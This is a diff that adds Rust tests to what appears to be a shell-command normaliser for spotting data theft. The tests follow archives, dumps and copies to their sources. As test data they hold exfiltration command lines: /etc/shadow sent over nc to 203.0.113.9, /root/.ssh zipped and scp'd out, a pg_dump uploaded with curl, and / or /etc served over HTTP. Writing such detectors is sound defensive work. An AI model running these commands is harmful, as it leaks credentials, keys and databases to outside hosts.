@@ -150,6 +150,22 @@ fn an_unknown_target_or_a_login_shell_forgets_the_directory() {
 }
 
 #[test]
+fn a_file_server_without_a_root_serves_the_working_directory() {
+    assert!(has(
+        "cd / && python3 -m http.server 8080",
+        "python3 -m http.server 8080 --directory /"
+    ));
+    assert!(has(
+        "cd /etc; php -S 0.0.0.0:80",
+        "php -S 0.0.0.0:80 -t /etc"
+    ));
+    assert!(!has(
+        "cd /srv/site; python3 -m http.server -d public",
+        "python3 -m http.server -d public --directory /srv/site"
+    ));
+}
+
+#[test]
 fn pwd_is_known_with_the_directory() {
     assert!(has("cd /etc; cat $PWD/shadow", "cat /etc/shadow"));
 }
@@ -288,6 +304,59 @@ fn a_file_not_downloaded_is_just_run() {
     assert_eq!(
         after(&["curl -o /tmp/a https://203.0.113.9/a"], "sh /tmp/b"),
         ["sh /tmp/b"]
+    );
+}
+
+// --- files made from others ----------------------------------------------------------------
+
+#[test]
+fn an_archive_uploaded_later_is_read_as_its_sources() {
+    let texts = after(
+        &["tar czf /tmp/w.tgz /var/www"],
+        "curl -F f=@/tmp/w.tgz https://transfer.example.net",
+    );
+    assert!(
+        texts.contains(&"curl -F f=@/var/www https://transfer.example.net".to_string()),
+        "{texts:?}"
+    );
+}
+
+#[test]
+fn a_dump_written_to_a_file_and_sent_reads_as_the_dump_piped_in() {
+    let line = "pg_dump -U postgres app > /tmp/d.sql; curl -T /tmp/d.sql https://203.0.113.9/u";
+    assert!(has(
+        line,
+        "pg_dump -U postgres app | curl -T - https://203.0.113.9/u"
+    ));
+}
+
+#[test]
+fn a_copy_fed_to_a_network_tool_reads_as_the_original() {
+    let line = "cp /etc/shadow /tmp/.s; nc 203.0.113.9 4444 < /tmp/.s";
+    assert!(
+        has(line, "cat /etc/shadow | nc 203.0.113.9 4444"),
+        "{:?}",
+        texts(line)
+    );
+}
+
+#[test]
+fn an_archive_made_in_the_working_directory_is_followed() {
+    let texts = after(
+        &["cd /tmp", "zip -r out.zip /root/.ssh"],
+        "scp out.zip u@203.0.113.9:",
+    );
+    assert!(
+        texts.contains(&"scp /root/.ssh u@203.0.113.9:".to_string()),
+        "{texts:?}"
+    );
+}
+
+#[test]
+fn a_file_not_made_from_others_is_just_sent() {
+    assert_eq!(
+        texts("curl -T report.pdf https://files.example.net"),
+        ["curl -T report.pdf https://files.example.net"]
     );
 }
 
